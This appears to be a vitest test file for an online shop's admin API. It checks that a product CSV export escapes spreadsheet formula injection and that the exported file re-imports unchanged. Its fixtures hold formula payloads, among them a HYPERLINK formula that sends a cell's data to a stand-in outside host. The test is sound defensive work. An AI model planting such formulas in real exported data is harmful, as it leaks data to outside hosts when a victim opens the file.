import { beforeAll, describe, expect, it } from 'vitest';
import { createJobRunner, type JobRunner } from '../../../src/jobs/runner.ts';
import {
  IMPORT_CHECK_JOB,
  IMPORT_RUN_JOB,
  importCheckHandler,
  importRunHandler,
} from '../../../src/modules/catalogue/imports.ts';
import { useTestApp } from '../../helpers/app.ts';
import { createCategory, createProduct, createTag } from '../../helpers/factories.ts';
import { as, type StaffBrowser, signedInStaff } from '../../helpers/staff.ts';

/** What a spreadsheet program would run: a piece starting (after spaces or quotes) so. */
const runnable = (piece: string) => /^[ "]*[=+\-@\t\r]/.test(piece);

describe('the products CSV export with names a spreadsheet program would run', () => {
  const ctx = useTestApp();
  let owner: StaffBrowser;
  let runner: JobRunner;

  beforeAll(async () => {
    owner = await signedInStaff(ctx.app, ctx.db, 'owner');
    const category = await createCategory(ctx.db, { slug: 'phones' });
    const product = await createProduct(ctx.db, {
      categoryId: category.id,
      code: 'HOSTILE-1',
      slug: 'hostile-1',
      nameUz: 'Phone;=1+2',
      nameRu: '=HYPERLINK("https://x.example/?d="&A2,"Открыть")',
      descriptionUz: '<p>Tavsif</p>\n=1+2',
      descriptionRu: "'=already quoted, -5",
      price: 1_500_000,
      images: [],
    });
    await createTag(ctx.db, [product.id], { nameUz: '@sale', nameRu: '-50%' });
    const deps = {
      db: ctx.db,
      storage: ctx.app.privateStorage,
      imageHosts: [],
      savePicture: async () => '/media/u/00000000000000000000000000000000',
    };
    runner = createJobRunner({
      db: ctx.db,
      handlers: {
        [IMPORT_CHECK_JOB]: importCheckHandler(deps),
        [IMPORT_RUN_JOB]: importRunHandler(deps),
      },
    });
  });

  const exported = async () => {
    const res = await ctx.app.inject({
      method: 'GET',
      url: '/api/admin/products/export?format=csv',
      headers: as(owner),
    });
    expect(res.statusCode).toBe(200);
    return res.rawPayload;
  };

  it('guards every piece of a cell that Excel, cutting at commas or semicolons, would run', async () => {
    const text = (await exported()).toString('utf8');
    expect(text).toContain(`"Phone;'=1+2"`);
    expect(text).toContain(`"'=HYPERLINK(""https://x.example/?d=""&A2,""Открыть"")"`);
    expect(text).toContain(`"<p>Tavsif</p>\n'=1+2"`);
    expect(text).toContain(`"''=already quoted, '-5"`);
    expect(text).toContain(`,'@sale,`);
    // a line break inside a quoted cell starts a new line for a program that ignores quotes
    for (const line of text.split(/\r\n|\n/)) {
      for (const piece of line.split(/[,;]/)) expect(runnable(piece), line).toBe(false);
    }
  });

  it('imports back what it wrote with every row unchanged', async () => {
    const bytes = await exported();
    const boundary = '----bozor-export-boundary';
    const payload = Buffer.concat([
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="export.csv"\r\nContent-Type: text/csv\r\n\r\n`,
      ),
      bytes,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    const uploaded = await ctx.app.inject({
      method: 'POST',
      url: '/api/admin/imports',
      headers: { ...as(owner), 'content-type': `multipart/form-data; boundary=${boundary}` },
      payload,
    });
    expect(uploaded.statusCode, uploaded.body).toBe(200);
    while ((await runner.runDue()) > 0) {
      // the dry run, a slice at a time
    }
    const detail = await ctx.app.inject({
      method: 'GET',
      url: `/api/admin/imports/${uploaded.json().data.id}`,
      headers: as(owner),
    });
    const checked = detail.json().data;
    expect(checked.errors).toEqual([]);
    expect(checked.planned).toEqual({ create: 0, update: 0, unchanged: 1, error: 0 });
  });
});
